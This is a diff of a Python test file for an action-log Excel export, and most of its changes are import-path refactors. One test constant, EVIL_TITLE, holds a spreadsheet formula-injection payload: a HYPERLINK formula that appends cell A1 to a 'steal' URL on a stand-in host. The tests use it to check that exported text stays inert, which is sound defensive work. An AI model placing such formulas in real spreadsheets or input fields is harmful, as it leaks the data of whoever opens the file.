@@ -12,15 +12,15 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import select, text
 
-from tests.services.test_action_log import TODAY, World, draft, make_world, seed
+from tests.services.actions.test_action_log import TODAY, World, draft, make_world, seed
 from vpr_desktop.domain.errors import PermissionDeniedError
 from vpr_desktop.domain.models import AuditEvent
 from vpr_desktop.reports import action_log_xlsx
 from vpr_desktop.reports.action_log_xlsx import ExportFileError, export_action_log
-from vpr_desktop.services.action_list import ActionListSource
-from vpr_desktop.services.action_log import ActionLogService
-from vpr_desktop.services.paging import PageRequest
-from vpr_desktop.services.unit_of_work import reading
+from vpr_desktop.services.actions.listing import ActionListSource
+from vpr_desktop.services.actions.service import ActionLogService
+from vpr_desktop.services.common.paging import PageRequest
+from vpr_desktop.services.common.unit_of_work import reading
 
 EVIL_TITLE = '=HYPERLINK("http://example.invalid/steal?"&A1,"Click for the policy")'
 # The service strips leading white space from what people type, so tab and CR openers only
@@ -116,7 +116,7 @@ def test_export_matches_the_filtered_list_and_keeps_text_as_text(world: World,
 def test_whole_demo_log_exports_every_action_and_timeline_entry(demo_copy: Path,
                                                                 tmp_path: Path) -> None:
     from tests.conftest import DEMO_ANCHOR
-    from vpr_desktop.services.users import identify
+    from vpr_desktop.services.admin.users import identify
     from vpr_desktop.store.database import open_database
 
     db = open_database(demo_copy)
